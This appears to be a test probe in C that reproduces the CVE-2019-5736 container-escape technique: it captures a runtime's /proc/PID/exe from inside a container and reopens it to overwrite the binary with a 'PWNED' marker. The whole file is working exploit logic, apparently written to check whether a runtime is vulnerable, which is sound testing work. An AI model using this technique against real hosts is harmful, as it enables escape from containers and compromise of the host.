/* exeprobe: the CVE-2019-5736 attack on a runtime binary, from inside a
 * container.
 *
 *   exeprobe attack SECS     wait up to SECS for another process of the
 *                            container whose /proc/PID/exe is not busybox or
 *                            this probe (hutch run as the interpreter of a
 *                            `#!/proc/self/exe` script), keep an O_PATH fd on
 *                            it, then for 3 s try to reopen it for writing
 *                            through /proc/self/fd/N and write "PWNED".
 *   exeprobe control FILE    the same technique against FILE, an executable
 *                            the container owns: run it, catch its
 *                            /proc/PID/exe, kill it, reopen, write.
 *
 * Prints `CAUGHT <link>` when it holds the target, then `WROTE` or
 * `DENIED <errno name>`; `MISSED` when nothing showed up in time.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Opens /proc/PID/exe O_PATH; returns the fd if it is not `skip1/2`. */
static int catch_exe(int pid, const char *skip1, const char *skip2, char *link, size_t n) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return -1;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t len = readlink(path, link, n - 1);
    if (len <= 0) { close(fd); return -1; }
    link[len] = 0;
    if ((skip1 && strstr(link, skip1)) || (skip2 && strstr(link, skip2))) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Reopens fd for writing until it works or `secs` pass. */
static int overwrite(int fd, double secs) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    double end = now() + secs;
    int err = 0;
    do {
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            if (pwrite(w, "PWNED", 5, 0) == 5) { puts("WROTE"); return 0; }
            err = errno;
            close(w);
        } else {
            err = errno;
        }
        usleep(2000);
    } while (now() < end);
    printf("DENIED %s\n", strerrorname_np(err) ? strerrorname_np(err) : "?");
    return 1;
}

static int attack(double secs) {
    char self[256], link[512];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n <= 0) return 2;
    self[n] = 0;
    puts("WAITING");
    fflush(stdout);
    double end = now() + secs;
    while (now() < end) {
        for (int pid = 2; pid < 256; pid++) {
            if (pid == getpid()) continue;
            int fd = catch_exe(pid, "busybox", self, link, sizeof link);
            if (fd < 0) continue;
            printf("CAUGHT %s\n", link);
            fflush(stdout);
            return overwrite(fd, 3.0);
        }
    }
    puts("MISSED");
    return 3;
}

static int control(const char *file) {
    char link[512];
    pid_t child = fork();
    if (child == 0) {
        execl(file, file, "sleep", "30", (char *)NULL);
        _exit(127);
    }
    int fd = -1;
    for (int i = 0; i < 2000 && fd < 0; i++) {
        fd = catch_exe(child, "exeprobe", NULL, link, sizeof link);
        if (fd < 0) usleep(1000);
    }
    if (fd < 0) { puts("MISSED"); return 3; }
    printf("CAUGHT %s\n", link);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return overwrite(fd, 3.0);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "attack") == 0) return attack(atof(argv[2]));
    if (argc == 3 && strcmp(argv[1], "control") == 0) return control(argv[2]);
    fprintf(stderr, "usage: exeprobe attack SECS | control FILE\n");
    return 2;
}
